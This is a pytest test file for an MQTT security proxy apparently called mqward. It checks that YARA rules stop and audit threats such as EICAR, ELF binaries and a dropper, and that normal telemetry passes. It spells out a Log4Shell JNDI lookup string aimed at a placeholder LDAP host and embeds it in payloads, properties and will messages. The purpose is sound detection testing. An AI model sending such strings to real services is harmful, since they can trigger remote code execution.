# SPDX-License-Identifier: Apache-2.0
"""The shipped rules through mqward: what they are there for is stopped and audited, and ordinary telemetry passes."""
import base64
import json
from dataclasses import dataclass

import pytest

import raw
from audit import get
from scanning import (FAILED, INLINE, INVALID, MATCHED, QOS, SHIPPED, VERSIONS, harmless, sample, scan, scan_world,
                      telemetry)


@dataclass
class Threat:
    rule: str
    technique: str
    payload: bytes
    view: str = "raw"
    part: str = "payload"
    props: tuple = ()


LOOKUP = b"${jndi:ldap://192.0.2.14:1389/a}"
STATE = b'{"state": "on"}'


def in_json(data):
    """A device's firmware update, as JSON has it."""
    return json.dumps({"file": "update.bin", "data": base64.b64encode(data).decode()}).encode()


THREATS = {
    "eicar": Threat("eicar_test_file", "T1105", sample("eicar.b64")),
    "eicar-in-json": Threat("eicar_test_file", "T1105", sample("eicar-json.b64"), "json"),
    "elf-in-json": Threat("elf_executable", "T1105", in_json(sample("elf-arm.b64")), "base64"),
    "large-elf-in-json": Threat("elf_executable", "T1105", in_json(sample("elf-arm.b64") + bytes(2 * INLINE)),
                                "base64"),
    "gzip-dropper": Threat("download_and_run", "T1105", sample("dropper-curl-pipe.b64"), "gzip"),
    "lookup": Threat("log4j_lookup", "T1190", b"device " + LOOKUP + b" is offline"),
}
IN_PROPERTIES = {
    "value": Threat("log4j_lookup", "T1190", STATE, part="user_property",
                    props=((raw.USER_PROPERTY, ("agent", LOOKUP)),)),
    "name": Threat("log4j_lookup", "T1190", STATE, part="user_property", props=((raw.USER_PROPERTY, (LOOKUP, "1")),)),
    "last": Threat("log4j_lookup", "T1190", STATE, part="user_property",
                   props=(*((raw.USER_PROPERTY, (f"a{number}", "b")) for number in range(100)),
                          (raw.USER_PROPERTY, ("agent", LOOKUP)))),
    "correlation": Threat("log4j_lookup", "T1190", STATE, part="correlation_data",
                          props=((raw.CORRELATION_DATA, b"\0\1" + LOOKUP),)),
}
EACH = [pytest.param(version, threat, id=f"{label}-{name}")
        for version, label in ((raw.V311, "v3.1.1"), (raw.V5, "v5.0"))
        for name, threat in {**THREATS, **(IN_PROPERTIES if version == raw.V5 else {})}.items()]
# All that goes through is asked: what clients publish, and what they get.
WHOLE = scan("at: [publish, receive]", topics="#", name="scanned")


@pytest.fixture(scope="module")
def world(make_shared_world):
    return scan_world(make_shared_world, scan(), scan("at: receive", topics="out/#", name="delivered"), sets=SHIPPED)


@pytest.fixture(scope="module")
def whole(make_shared_world):
    return scan_world(make_shared_world, WHOLE, sets=SHIPPED)


def expect_alert(event, threat, world, check="scanned"):
    assert (get(event, "event.kind"), get(event, "event.category")) == ("alert", ["malware", "intrusion_detection"])
    assert (get(event, "rule"), get(event, "mqward.check")) == (threat.rule, check)
    assert get(event, "line") == world.line(f"check: {check}")
    assert threat.technique in get(event, "threat.technique.id") and get(event, "threat.framework") == "MITRE ATT&CK"
    yara = get(event, "mqward.yara")
    assert threat.rule == yara["rules"][0] and yara["namespaces"] == ["iot"]
    assert (yara["part"], yara["view"], yara["scan_complete"]) == (threat.part, threat.view, True)
    assert yara["matches"] >= 1 and yara.get("first_offset", 0) >= 0
    for path in ("rule.uuid", "rule.description", "event.severity", "mqward.policy"):
        assert get(event, path), path


@pytest.mark.core
@pytest.mark.parametrize("version, threat", EACH)
def test_a_threat_is_stopped_and_audited(world, version, threat):
    topic = f"dt/{world.name()}"
    observer, sender = world.observer("dt/#", qos=1), world.connected(version=version)
    sender.publish(topic, STATE, 1)
    sender.publish(topic, threat.payload, 1, INVALID, props=threat.props)
    sender.publish(topic, b"after", 1)
    assert [message.payload for message in world.arrived(observer, sender)] == [STATE, b"after"]
    event, = world.audit.wait_for_count(1, action=MATCHED, topic=topic)
    expect_alert(event, threat, world)
    assert (get(event, "outcome"), get(event, "event.type")) == ("failure", ["info", "denied"])
    assert get(event, "disposition") == ("rejected" if version == raw.V5 else "dropped")
    assert get(event, "reason_code") == (INVALID if version == raw.V5 else None)


@pytest.mark.core
@pytest.mark.parametrize("version, threat", EACH)
def test_a_threat_that_came_to_the_broker_behind_mqward_is_not_delivered(world, version, threat):
    topic = f"out/{world.name()}"
    client_id = world.name()
    receiver = world.connected(client_id, version)
    receiver.subscribe(topic, qos=1)
    with world.direct(version=version) as behind:
        behind.publish(topic, STATE, 1)
        behind.publish(topic, threat.payload, 1, props=threat.props)
        behind.publish(topic, b"after", 1)
    assert [receiver.message().payload for _ in range(2)] == [STATE, b"after"]
    receiver.ping()
    event, = world.audit.wait_for_count(1, action=MATCHED, topic=topic)
    expect_alert(event, threat, world, "delivered")
    assert (get(event, "disposition"), get(event, "client_id")) == ("dropped", client_id)


@pytest.mark.parametrize("version, threat", EACH)
def test_a_will_with_a_threat_refuses_connect(world, version, threat):
    topic, client_id = f"dt/{world.name()}", world.name()
    client = world.client(version)
    client.connect(client_id, INVALID, will=raw.Will(topic, threat.payload, 1, properties=threat.props))
    client.expect_closed()
    event, = world.audit.wait_for_count(1, action=MATCHED, topic=topic, client_id=client_id)
    expect_alert(event, threat, world)
    assert (get(event, "packet"), get(event, "disposition")) == ("connect", "rejected")
    assert not world.broker.knows(client_id)


@QOS
@VERSIONS
def test_each_qos_is_answered(world, version, qos):
    topic = f"dt/{world.name()}"
    observer, sender = world.observer("dt/#", qos=qos), world.connected(version=version)
    for payload in (LOOKUP, harmless(2 * INLINE) + LOOKUP):
        sender.publish(topic, payload, qos, INVALID)
    sender.publish(topic, b"after", qos)
    assert [message.payload for message in world.arrived(observer, sender)] == [b"after"]
    world.audit.wait_for_count(2, action=MATCHED, topic=topic)


@VERSIONS
def test_ordinary_telemetry_passes_unchanged_and_without_a_word(whole, version):
    """In the order in which it was sent, though some of it waits for the pool."""
    messages = telemetry()
    assert len(messages) > 300 and max(map(len, messages.values())) > INLINE
    receiver, sender = whole.connected(version=version), whole.connected(version=version)
    receiver.subscribe("fleet/#")
    topics = [f"fleet/{name.replace('.', '/')}" for name in messages]
    for topic, payload in zip(topics, messages.values()):
        sender.send(raw.publish(version, topic, payload))
    found = [receiver.message() for _ in messages]
    assert [message.topic for message in found] == topics
    assert [message.payload for message in found] == list(messages.values())
    sender.ping()
    assert whole.audit.all(action=MATCHED) == [] and whole.audit.all(action=FAILED) == []
    assert whole.proxy.logged("an error") == []


@pytest.mark.needs("v5.0")
def test_ordinary_properties_pass(whole):
    """Content types, correlation data and User Properties as clients really have them."""
    receiver, sender = whole.connected(version=raw.V5), whole.connected(version=raw.V5)
    receiver.subscribe("props/#")
    props = [(raw.CONTENT_TYPE, "application/json"), (raw.CORRELATION_DATA, bytes(range(16))),
             (raw.RESPONSE_TOPIC, "props/answer"),
             (raw.USER_PROPERTY, ("traceparent", "00-4bf92f3577b34da6-00f067aa0ba902b7-01")),
             (raw.USER_PROPERTY, ("agent", "esp-idf/5.1 (ESP32-S3)")), (raw.USER_PROPERTY, ("", ""))]
    sender.publish("props/x", STATE, 1, props=props)
    message = receiver.message()
    assert message.payload == STATE and sorted(message.properties) == sorted(props)
    assert whole.audit.all(action=MATCHED) == [] and whole.audit.all(action=FAILED) == []
